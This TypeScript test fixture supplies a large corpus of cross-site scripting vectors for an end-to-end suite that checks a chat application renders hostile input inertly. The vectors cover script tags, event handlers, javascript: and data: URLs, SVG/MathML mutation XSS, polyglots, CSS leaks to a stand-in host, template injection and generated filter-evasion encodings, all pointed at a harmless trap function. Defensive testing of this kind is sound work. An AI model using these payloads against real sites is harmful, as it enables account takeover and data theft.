// A corpus of cross-site scripting vectors, for the hostile-input end-to-end suite
// (xss.spec.ts). Each vector is published into a room as message text, as a user id (typing
// and presence too), as an event type and as a room name; none may run, load anything or
// become markup.
//
// `PWN` in a vector stands for a call of the page's trap, `__xssHit(<id>)`, so a vector that
// runs says which one it was; the trap also replaces alert(), confirm(), prompt(), print()
// and open(), which the classic vectors call. `http://xss.invalid/…` marks a resource a
// vector would load if it became markup: the suite fails on any request to that host.
// Sources: the author's own, in the spirit of OWASP's filter evasion cheat sheet, PortSwigger's
// XSS cheat sheet, the HTML5 Security Cheatsheet and well-known polyglots and mXSS samples.

export interface XssVector {
  id: number;
  category: string;
  text: string;
}

const hit = (id: number) => `__xssHit(${id})`;

type Entry = readonly [category: string, text: string];

const SCRIPT_TAGS: readonly string[] = [
  '<script>PWN</script>',
  '<SCRIPT>PWN</SCRIPT>',
  '<ScRiPt >PWN</sCrIpT >',
  '<script type="module">PWN</script>',
  '<script type="text/javascript">PWN</script>',
  '<script\u000Ctype="text/javascript">PWN</script>',
  '<script\ttype="text/javascript">PWN</script>',
  '<script src="data:text/javascript,PWN"></script>',
  '<script/src=data:,PWN></script>',
  '<script src=http://xss.invalid/s.js></script>',
  '<scr<script>ipt>PWN</scr</script>ipt>',
  '<<script>PWN//<</script>',
  '<script>PWN</script',
  '<script>/*</script>*/PWN</script>',
  '"><script>PWN</script>',
  "'><script>PWN</script>",
  '</p><script>PWN</script><p>',
  '</textarea><script>PWN</script>',
  '</title><script>PWN</script>',
  '</style><script>PWN</script>',
  '</noscript><script>PWN</script>',
  '<script>setTimeout("PWN")</script>',
  "<script>eval(atob('X194c3NIaXQoMCk='))</script>",
  '<script>new Function("PWN")()</script>',
  '<template><script>PWN</script></template>',
  '<xmp><script>PWN</script></xmp>',
  '<plaintext><script>PWN</script>',
  '<scr\u0000ipt>PWN</scr\u0000ipt>',
  '\u0000<script>PWN</script>',
  '%3Cscript%3EPWN%3C%2Fscript%3E',
  '&lt;script&gt;PWN&lt;/script&gt;',
  '\\x3cscript\\x3ePWN\\x3c/script\\x3e',
  '\\u003cscript\\u003ePWN\\u003c/script\\u003e',
  '\uFF1Cscript\uFF1EPWN\uFF1C/script\uFF1E',
  '+ADw-script+AD4-PWN+ADw-/script+AD4-',
  '"}]}</script><script>PWN</script>',
  '\\"}; PWN; //',
];

const EVENT_HANDLERS: readonly string[] = [
  '<img src=x onerror=PWN>',
  '<img src="x" onerror="PWN">',
  '<IMG SRC=x OnErRoR=PWN>',
  '<img/src=x/onerror=PWN>',
  '<img src=x onerror=PWN//',
  '<img src=x onerror=PWN',
  '<img src=x\u000Bonerror=PWN>',
  '<img src=x onerror\u000C=PWN>',
  '<img src=x onerror="javascript:PWN">',
  "<img src=x onerror=window['__xss'+'Hit'](1)>",
  '<img src=x onerror=top[/__xssHit/.source](2)>',
  "<img src=x onerror=eval('\\x5f\\x5fxssHit(3)')>",
  '<img src=x onerror=\\u005f\\u005fxssHit(4)>',
  '<img src=x onerror=&#x5f;&#x5f;xssHit(5)>',
  '<img src=x onerror=&#95&#95xssHit&#40;6&#41;>',
  '<img src="http://xss.invalid/img.png">',
  '<img """><script>PWN</script>">',
  '<img src=`x`onerror=PWN>',
  '<image src=x onerror=PWN>',
  '<svg onload=PWN>',
  '<svg/onload=PWN>',
  '<body onload=PWN>',
  '<body onpageshow=PWN>',
  '<frameset onload=PWN>',
  '<input autofocus onfocus=PWN>',
  '<select autofocus onfocus=PWN>',
  '<textarea autofocus onfocus=PWN>',
  '<keygen autofocus onfocus=PWN>',
  '<a href=# autofocus onfocus=PWN>x</a>',
  '<details open ontoggle=PWN>',
  '<video><source onerror=PWN>',
  '<video src=x onerror=PWN>',
  '<audio src=x onerror=PWN>',
  '<marquee onstart=PWN>x</marquee>',
  '<div onmouseover=PWN style="position:fixed;inset:0">hover</div>',
  '<div onpointerenter=PWN>x</div>',
  '<x contenteditable onblur=PWN>lose focus</x>',
  '<style>@keyframes k{}</style><x style="animation-name:k" onanimationstart=PWN>',
  '<iframe onload=PWN>',
  '<object data=x onerror=PWN>',
  '<style onload=PWN></style>',
  '<link rel=stylesheet href=x onerror=PWN>',
  '<isindex type=image src=1 onerror=PWN>',
  '<form><button formaction=javascript:PWN>x</button></form>',
  '<input type=image src=x onerror=PWN>',
  '<body/onhashchange=PWN>',
  '<svg><animate onbegin=PWN attributeName=x dur=1s>',
  '<svg><discard onbegin=PWN>',
  '<svg><image href=x onerror=PWN>',
  '" onmouseover="PWN',
  "' onfocus='PWN' autofocus='",
  '" autofocus onfocus=PWN x="',
];

const URLS: readonly string[] = [
  '<a href="javascript:PWN">click</a>',
  '<a href="JaVaScRiPt:PWN">click</a>',
  '<a href=" javascript:PWN">click</a>',
  '<a href="jav&#x09;ascript:PWN">click</a>',
  '<a href="jav&#x0A;ascript:PWN">click</a>',
  '<a href="jav&#x0D;ascript:PWN">click</a>',
  '<a href="java\u0000script:PWN">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;PWN">click</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058PWN">click</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;PWN">click</a>',
  '<a href="javascript&colon;PWN">click</a>',
  '<a href="javas&Tab;cript:PWN">click</a>',
  '<a href="javas&NewLine;cript:PWN">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html,<script>PWN</script>">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5fX3hzc0hpdCgwKTwvc2NyaXB0Pg==">click</a>',
  '<iframe src="javascript:PWN"></iframe>',
  '<iframe src="data:text/html,<script>PWN</script>"></iframe>',
  '<iframe srcdoc="<script>PWN</script>"></iframe>',
  '<object data="javascript:PWN"></object>',
  '<embed src="javascript:PWN">',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X194c3NIaXQoMCk+">',
  '<base href="javascript:PWN//">',
  '<meta http-equiv="refresh" content="0;url=javascript:PWN">',
  '<link rel=import href="data:text/html,<script>PWN</script>">',
  '<table background="javascript:PWN">',
  '[click](javascript:PWN)',
  '[click](javascript://%0aPWN)',
  '![x](javascript:PWN)',
  '[x](data:text/html;base64,PHNjcmlwdD5fX3hzc0hpdCgwKTwvc2NyaXB0Pg==)',
  'javascript:PWN',
  'javascript://comment%0APWN',
  'JAVASCRIPT:PWN',
  '\uFF2A\uFF21\uFF36\uFF21\uFF33\uFF23\uFF32\uFF29\uFF30\uFF34:PWN',
  'javascript:\u2028PWN',
  'vbscript:msgbox("xss")',
  'data:text/html,<script>PWN</script>',
  'feed:javascript:PWN',
  'http://example.com/"onmouseover="PWN',
  "https://example.com/'onmouseover='PWN'",
  'https://example.com/<script>PWN</script>',
  'https://example.com/?q=javascript:PWN',
  'https://example.com/#<img src=x onerror=PWN>',
  'www.example.com/"><img src=x onerror=PWN>',
  'http://javascript:PWN@evil.example/',
  'https://bank.example@xss.invalid/login',
  'http://[::1]/"><svg onload=PWN>',
  'https://example.com\u0000javascript:PWN',
  'x@example.com"onclick="PWN',
  'mailto:x@example.com?body=<script>PWN</script>',
];

const SVG_MATHML: readonly string[] = [
  '<svg><script>PWN</script></svg>',
  '<svg><script href=data:,PWN />',
  '<svg><a xlink:href="javascript:PWN"><text x=20 y=20>XSS</text></a></svg>',
  '<svg><a href="javascript:PWN"><rect width=100 height=100 /></a></svg>',
  '<svg><set attributeName=onmouseover to=PWN>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:PWN />',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;PWN&lt;/script&gt;"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdfX3hzc0hpdCgwKSc+PC9zdmc+#x" /></svg>',
  "<svg><style>@import 'http://xss.invalid/svg.css';</style></svg>",
  '<svg><title><![CDATA[</title><script>PWN</script>]]></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=PWN>">',
  '<svg><p><style><img src=x onerror=PWN></style></p></svg>',
  '<svg><feImage href=javascript:PWN>',
  '<svg><style>*{fill:url(http://xss.invalid/fill)}</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=PWN>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:PWN">x</maction></math>',
  '<math href="javascript:PWN">CLICK</math>',
  '<math><mi xlink:href="data:x,<script>PWN</script>">x</mi></math>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=PWN>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=PWN src=1>">',
];

const MALFORMED_MARKUP: readonly string[] = [
  '<noscript><p title="</noscript><img src=x onerror=PWN>">',
  '<!--<img src="--><img src=x onerror=PWN//">',
  '<![CDATA[><img src=x onerror=PWN>]]>',
  '<?xml version="1.0"?><img src=x onerror=PWN>',
  '<!DOCTYPE html><img src=x onerror=PWN>',
  '<a title="a<!--"><img src=x onerror=PWN>-->',
  '<img src="x" alt="``<img src=x onerror=PWN>">',
  '<<img src=x onerror=PWN>>',
  '<div <img src=x onerror=PWN>>',
  '<table><td><img src=x onerror=PWN></td></table>',
  '<listing>&lt;img src=x onerror=PWN&gt;</listing>',
  '<textarea><img src=x onerror=PWN></textarea>',
  '<title><img src=x onerror=PWN></title>',
  '<style><img src=x onerror=PWN></style>',
  '<noembed><img src=x onerror=PWN></noembed>',
  '<select><template><img src=x onerror=PWN></template></select>',
  '<a href="x"><a href="javascript:PWN">nested</a></a>',
  '<p\u0000 onclick=PWN>x</p>',
  '</br style=a:expression(PWN)>',
  '<img src=x onerror=PWN \u00A0>',
  '<div id="x"></div><script>document.getElementById("x").innerHTML="<img src=x onerror=PWN>"</script>',
  '\u202E<img src=x onerror=PWN>\u202C',
  '\r\nSet-Cookie: xss=1\r\n\r\n<script>PWN</script>',
];

const CSS_INJECTION: readonly string[] = [
  '<style>body{background:url("http://xss.invalid/css1")}</style>',
  '<style>@import url(http://xss.invalid/css2);</style>',
  '<link rel=stylesheet href=http://xss.invalid/css3>',
  '<div style="background-image:url(javascript:PWN)">x</div>',
  '<div style="background:url(http://xss.invalid/css4)">x</div>',
  '<div style="width:expression(PWN)">x</div>',
  '<div style="behavior:url(http://xss.invalid/x.htc)">x</div>',
  '<x style="x:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(PWN)">x</x>',
  '<img style="xss:expr/*XSS*/ession(PWN)">',
  '</style><style>*{display:none!important}</style>',
  '}body{display:none}',
  '<style>*{color:red}</style>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</div>',
  '<style>input[value^="a"]{background:url(http://xss.invalid/leak)}</style>',
  '-moz-binding:url(http://xss.invalid/xbl#x)',
  "@import'http://xss.invalid/css5';",
  'background:url(&#1;javascript:PWN)',
];

const TEMPLATE_SYNTAX: readonly string[] = [
  '{{7*7}}',
  '${7*7}',
  '{7*7}',
  '#{7*7}',
  '{{PWN}}',
  '${PWN}',
  '`${PWN}`',
  '{PWN}',
  "{{constructor.constructor('PWN')()}}",
  "{{$on.constructor('PWN')()}}",
  "{@html '<img src=x onerror=PWN>'}",
  '{@html "<script>PWN</script>"}',
  "{#if true}{@html '<img src=x onerror=PWN>'}{/if}",
  '{@const x = PWN}{x}',
  '<%= PWN %>',
  '{% PWN %}',
  '{{= PWN}}',
  "{{{ '<img src=x onerror=PWN>' }}}",
  '[[PWN]]',
  '@{PWN}',
  '$(PWN)',
  '<div v-html="\'<img src=x onerror=PWN>\'"></div>',
  "<div ng-app ng-csp>{{$eval.constructor('PWN')()}}</div>",
  '<svelte:element this="script">PWN</svelte:element>',
];

const POLYGLOTS: readonly string[] = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=PWN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=PWN//>\\x3e',
  '\'">><marquee><img src=x onerror=PWN></marquee>"></plaintext\\></|\\><plaintext/onmouseover=PWN><script>PWN</script>\'-->"></script><script>PWN</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>\'"><img src="http://xss.invalid/poly">',
  'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=PWN//>',
  '-->\'"/></sCript><deTailS open x=">" ontoggLe=(PWN)>',
  '"onclick=PWN//<button \' onclick=PWN//> */ PWN//',
  '\';PWN;//\';PWN;//";PWN;//";PWN;//--></SCRIPT>">\'><SCRIPT>PWN</SCRIPT>=&{}',
  '<svg/onload=PWN>//<img src=x onerror=PWN>//<script>PWN</script>',
  '"><svg/onload=PWN>"@x.y',
  '</script><svg onload=PWN>',
  '<img src=x onerror=PWN>'.repeat(200),
];

/** Names that break code keeping people or rooms in plain objects. */
const PROTOTYPE_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'valueOf',
];

const OBFUSCATION_SCHEMES = [
  'javascript:PWN',
  'vbscript:msgbox(1)',
  'data:text/html,<svg onload=PWN>',
];

/** The many ways a URL scheme can be hidden from a naive filter. */
const OBFUSCATIONS: ReadonlyArray<readonly [string, (url: string) => string]> = [
  ['leading space', (url) => ` ${url}`],
  ['leading control character', (url) => `\u0001${url}`],
  ['leading form feed', (url) => `\u000C${url}`],
  ['tab inside', (url) => url.replace(':', '\t:')],
  ['newline inside', (url) => `${url.slice(0, 4)}\n${url.slice(4)}`],
  ['NUL inside', (url) => `${url.slice(0, 4)}\u0000${url.slice(4)}`],
  ['upper case', (url) => url.replace(/^[a-z]+/, (scheme) => scheme.toUpperCase())],
  [
    'decimal entities',
    (url) =>
      [...url.split(':')[0]!].map((ch) => `&#${ch.charCodeAt(0)};`).join('') +
      url.slice(url.indexOf(':')),
  ],
  [
    'hex entities without semicolons',
    (url) =>
      [...url.split(':')[0]!].map((ch) => `&#x${ch.charCodeAt(0).toString(16)}`).join('') +
      url.slice(url.indexOf(':')),
  ],
  ['entity colon', (url) => url.replace(':', '&#58;')],
  [
    'percent-encoded',
    (url) => url.replace(/^([a-z])/, (ch) => `%${ch.charCodeAt(0).toString(16)}`),
  ],
];

const CONTAINERS: ReadonlyArray<readonly [string, (url: string) => string]> = [
  ['a href', (url) => `<a href="${url}">click</a>`],
  ['iframe src', (url) => `<iframe src="${url}"></iframe>`],
  ['markdown link', (url) => `[click](${url})`],
];

function generatedUrlVectors(): Entry[] {
  const entries: Entry[] = [];
  for (const scheme of OBFUSCATION_SCHEMES) {
    for (const [obfuscation, obfuscate] of OBFUSCATIONS) {
      for (const [container, wrap] of CONTAINERS) {
        entries.push([`url: ${obfuscation} in ${container}`, wrap(obfuscate(scheme))]);
      }
    }
  }
  return entries;
}

const CATEGORIES: ReadonlyArray<readonly [string, readonly string[]]> = [
  ['script tag', SCRIPT_TAGS],
  ['event handler', EVENT_HANDLERS],
  ['url', URLS],
  ['svg/mathml', SVG_MATHML],
  ['malformed markup', MALFORMED_MARKUP],
  ['css injection', CSS_INJECTION],
  ['template syntax', TEMPLATE_SYNTAX],
  ['polyglot', POLYGLOTS],
  ['prototype key', PROTOTYPE_KEYS],
];

export const XSS_VECTORS: readonly XssVector[] = [
  ...CATEGORIES.flatMap(([category, texts]) => texts.map((text): Entry => [category, text])),
  ...generatedUrlVectors(),
].map(([category, text], id) => ({ id, category, text: text.replaceAll('PWN', hit(id)) }));

/** Template syntax that would show a computed 49 if anything evaluated it. */
export const EVALUATION_PROBES = ['{{7*7}}', '${7*7}', '{7*7}', '#{7*7}'];
